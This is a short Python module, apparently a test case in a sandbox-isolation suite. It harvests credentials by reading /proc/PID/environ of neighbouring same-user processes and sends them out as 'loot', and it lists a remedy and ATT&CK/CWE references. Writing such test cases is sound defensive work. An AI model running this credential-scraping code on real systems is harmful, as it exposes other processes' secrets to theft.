# SPDX-License-Identifier: MIT
"""Goal:  the worker's credentials, although the student's own environment is clean.
Means: /proc/PID/environ of the worker. It runs under the same uid, so the file is the student's to
       read: cleaning the child's environment does nothing for the parent's. Every other process in
       sight is tried too, since a sandbox's supervisor often keeps the environment it was given.
"""

from attack import DONE, attempting, credential, denied, loot, neighbours


def run(brief):
    why = "nobody else in sight"
    attempting()
    for pid in neighbours(brief):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                found = credential(file.read())
        except OSError as error:
            why = error
            continue
        if found:
            loot(found)
            return DONE
    return denied("/proc/PID/environ", why)


ATTACK = {
    "effect": "the worker's credentials leave in the student's output",
    "means": "the environ of another process of the same user; the child's own is clean",
    "oracle": "secret:environ",
    "quick": True,
    "id": "ENV-03",
    "attack_id": "T1003.007, T1552.001, CWE-214",
    "remedy": "a worker that is not dumpable, or holds no secrets; Landlock; a pid namespace",
    "refs": ["proc(5)", "ptrace(2), Ptrace access mode checking"],
    "run": run,
}
